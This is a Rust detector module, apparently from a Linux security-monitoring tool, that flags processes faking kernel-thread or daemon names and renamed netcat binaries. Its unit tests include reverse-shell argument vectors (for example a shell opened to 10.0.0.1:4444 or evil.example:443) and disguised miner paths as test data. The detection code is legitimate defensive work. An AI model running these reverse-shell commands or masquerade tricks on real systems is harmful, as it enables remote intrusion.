//! argv[0] pretending to be another program: a bracketed kernel-thread name (`[kworker/0:1]`,
//! kernel threads are never exec'd), or a system daemon name over a different executable.
//! Symlink aliases (nc -> nc.openbsd, sh -> dash) are not masquerading: only daemon names
//! count, and a name that prefixes the other, a known alias ([`ALIASES`]) or any name run by
//! a multi-call binary (busybox) is the program's own.

use super::{basename, Ctx, Findings};
use crate::knowledge::signals;

const DAEMONS: &[&str] = &[
    "sshd",
    "systemd",
    "kworker",
    "kthreadd",
    "cron",
    "crond",
    "rsyslogd",
    "dbus-daemon",
    "init",
    "httpd",
    "nginx",
    "mysqld",
    "sd-pam",
    "udevd",
    "agetty",
    "polkitd",
    "containerd",
    "kubelet",
];

/// Link names of programs whose executable has another name: argv[0] is the name the link
/// was run by, the exe the file it points to. Names that prefix their target (vi -> vim,
/// python3 -> python3.12, sshd -> sshd-session) need no entry. Only names in [`DAEMONS`]
/// are checked, so only daemons' links belong here.
const ALIASES: &[(&str, &[&str])] = &[
    // systemd installs /sbin/init as a link to itself (every boot and daemon-reexec).
    ("init", &["systemd"]),
    // MariaDB 10.5+ renamed its server mariadbd and ships mysqld as a link to it.
    ("mysqld", &["mariadbd"]),
];

/// Multi-call binaries run the applet argv[0] names (busybox's `crond`, `init`, `sh`):
/// any argv[0] is legitimate for them.
fn multi_call(exe: &str) -> bool {
    matches!(exe, "busybox" | "toybox")
}

/// Whether `name` (argv[0]) is a name the executable `exe` is installed under.
fn is_alias(name: &str, exe: &str) -> bool {
    exe.starts_with(name)
        || name.starts_with(exe)
        || multi_call(exe)
        || ALIASES
            .iter()
            .any(|(link, targets)| *link == name && targets.contains(&exe))
}

/// netcat's exec shape, `-e SHELL HOST PORT` (or `HOST PORT -e SHELL`): su(1) `-c COMMAND`
/// and xterm(1) `-e PROGRAM` also take a shell, but no host and port with it.
fn netcat_exec_shape(a: &[String]) -> bool {
    let runs_shell = |o: &str, p: &str| (o == "-e" || o == "-c") && super::is_shell(basename(p));
    let host_port = |h: &str, p: &str| {
        !h.is_empty() && !h.starts_with('-') && p.parse::<u16>().is_ok_and(|p| p > 0)
    };
    a.windows(4).any(|w| {
        (runs_shell(&w[0], &w[1]) && host_port(&w[2], &w[3]))
            || (host_port(&w[0], &w[1]) && runs_shell(&w[2], &w[3]))
    })
}

/// Always: every exec has an argv[0] to compare with its executable.
pub use super::always as wants;

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let Some(a0) = cx.facts.argv.first() else {
        return;
    };
    let exe = cx.exe_name;
    if cx.facts.exe_path.is_none() || exe.is_empty() {
        return;
    }
    let shown = basename(a0.trim());
    if a0.starts_with('[') && a0.ends_with(']') {
        out.hit(
            signals::ARGV0_MASQUERADE,
            format!(
                "argv[0] {a0:?} poses as a kernel thread; the executable is {}",
                cx.exe_path
            ),
        );
        return;
    }
    // A non-netcat name used with netcat's exec shape: `httpd -e /bin/sh HOST PORT`. A
    // command the exec carries (`docker exec web nc -e /bin/sh HOST PORT`) is not its own.
    let carries = cx.cmd.origins.iter().any(|o| o.carrier == 0);
    if !carries
        && netcat_exec_shape(&cx.facts.argv[1..])
        && super::class_of(shown) != Some(crate::knowledge::ToolClass::Netcat)
        && super::class_of(exe) != Some(crate::knowledge::ToolClass::Netcat)
        && !super::is_shell(shown)
        && !multi_call(shown)
        && !multi_call(exe)
    {
        out.hit(
            signals::RENAMED_UTILITY,
            format!(
                "{} ({shown}) takes netcat's -e SHELL HOST PORT options",
                cx.exe_path
            ),
        );
    }
    let head = shown.split([':', ' ']).next().unwrap_or(shown);
    if DAEMONS.contains(&head) && !is_alias(head, exe) {
        out.hit(
            signals::ARGV0_MASQUERADE,
            format!(
                "argv[0] {a0:?} poses as {head}; the executable is {}",
                cx.exe_path
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    fn with_exe(argv: &[&str], exe: &str) -> Vec<&'static str> {
        let mut f = facts(argv);
        f.exe_path = Some(exe.into());
        run_with(detect, &f, &Lineage::default()).0
    }

    #[test]
    fn fires_on_posing_names() {
        assert_eq!(
            with_exe(&["[kworker/0:1]"], "/tmp/.x/xmrig"),
            ["argv0_masquerade"]
        );
        assert_eq!(with_exe(&["sshd"], "/var/tmp/miner"), ["argv0_masquerade"]);
    }

    #[test]
    fn quiet_on_aliases() {
        assert!(with_exe(&["nc", "-e", "/bin/sh"], "/usr/bin/nc.openbsd").is_empty());
        assert!(with_exe(&["sshd", "-D"], "/usr/sbin/sshd").is_empty());
        assert!(with_exe(&["nginx: master process"], "/usr/sbin/nginx").is_empty());
    }

    #[test]
    fn daemon_names_are_read_up_to_a_colon_or_space() {
        assert_eq!(
            with_exe(&["/usr/sbin/cron -f"], "/dev/shm/.k"),
            ["argv0_masquerade"]
        );
        assert_eq!(
            with_exe(&["dbus-daemon: session"], "/home/u/.local/x"),
            ["argv0_masquerade"]
        );
        // A longer name of the same program: OpenSSH 9.8+ runs sessions as sshd-session.
        assert!(with_exe(&["sshd: alice [priv]"], "/usr/lib/openssh/sshd-session").is_empty());
        // systemd's per-user PAM helper is in parentheses, not brackets.
        assert!(with_exe(&["(sd-pam)"], "/usr/lib/systemd/systemd").is_empty());
        // The `[` program is not a bracketed name.
        assert!(with_exe(&["[", "-f", "/etc/hosts", "]"], "/usr/bin/[").is_empty());
    }

    #[test]
    fn needs_the_executable_to_compare_with() {
        // Without the kernel's exe path, argv[0] is all there is: nothing to contradict it.
        assert!(run(detect, &["[kworker/0:1]"]).is_empty());
        assert!(run(detect, &["sshd"]).is_empty());
    }

    #[test]
    fn fires_on_netcats_exec_options_under_another_name() {
        assert_eq!(
            with_exe(
                &["httpd", "-e", "/bin/sh", "10.0.0.1", "4444"],
                "/tmp/httpd"
            ),
            ["renamed_utility"]
        );
        assert_eq!(
            with_exe(
                &["update-notifier", "-c", "bash", "10.0.0.1", "443"],
                "/var/tmp/update-notifier"
            ),
            ["renamed_utility"]
        );
        // Both at once: a daemon's name over another file, with netcat's options.
        assert_eq!(
            with_exe(&["sshd", "-e", "/bin/sh", "10.0.0.1", "4444"], "/tmp/x"),
            ["renamed_utility", "argv0_masquerade"]
        );
    }

    #[test]
    fn quiet_when_netcat_or_a_shell_owns_the_options() {
        // netcat itself, by its exe or by busybox's applet: the netcat detector reads it.
        assert!(with_exe(
            &["svc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            "/usr/bin/ncat"
        )
        .is_empty());
        assert!(with_exe(
            &["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            "/bin/busybox"
        )
        .is_empty());
        // `sh -c bash`: a shell's own -c.
        assert!(with_exe(&["sh", "-c", "bash"], "/usr/bin/dash").is_empty());
        // -e with something other than a shell.
        assert!(with_exe(&["httpd", "-e", "info"], "/usr/sbin/httpd").is_empty());
    }

    #[test]
    fn quiet_on_links_and_multi_call_binaries() {
        // systemd's /sbin/init link, Alpine's busybox crond, MariaDB's mysqld link.
        assert!(with_exe(&["/sbin/init"], "/usr/lib/systemd/systemd").is_empty());
        assert!(with_exe(&["crond", "-f", "-l", "2"], "/bin/busybox").is_empty());
        assert!(with_exe(&["init"], "/bin/toybox").is_empty());
        assert!(with_exe(&["mysqld"], "/usr/sbin/mariadbd").is_empty());
        // The same names over any other file still pose.
        assert_eq!(
            with_exe(&["/sbin/init"], "/usr/bin/dash"),
            ["argv0_masquerade"]
        );
        assert_eq!(
            with_exe(&["crond", "-f"], "/usr/local/bin/xmrig"),
            ["argv0_masquerade"]
        );
        assert_eq!(with_exe(&["mysqld"], "/tmp/systemd"), ["argv0_masquerade"]);
    }

    #[test]
    fn a_shell_option_without_host_and_port_is_not_netcats() {
        // su(1) -c COMMAND, xterm(1) -e PROGRAM.
        assert!(with_exe(&["su", "-c", "bash"], "/usr/bin/su").is_empty());
        assert!(with_exe(&["xterm", "-e", "bash"], "/usr/bin/xterm").is_empty());
        assert!(with_exe(&["su", "-c", "/bin/sh", "postgres"], "/usr/bin/su").is_empty());
        // A renamed netcat, with the host and port before or after its -e.
        assert_eq!(
            with_exe(
                &["xterm", "-e", "/bin/bash", "10.0.0.1", "4444"],
                "/tmp/xterm"
            ),
            ["renamed_utility"]
        );
        assert_eq!(
            with_exe(&["httpd", "evil.example", "443", "-e", "sh"], "/tmp/httpd"),
            ["renamed_utility"]
        );
    }
}
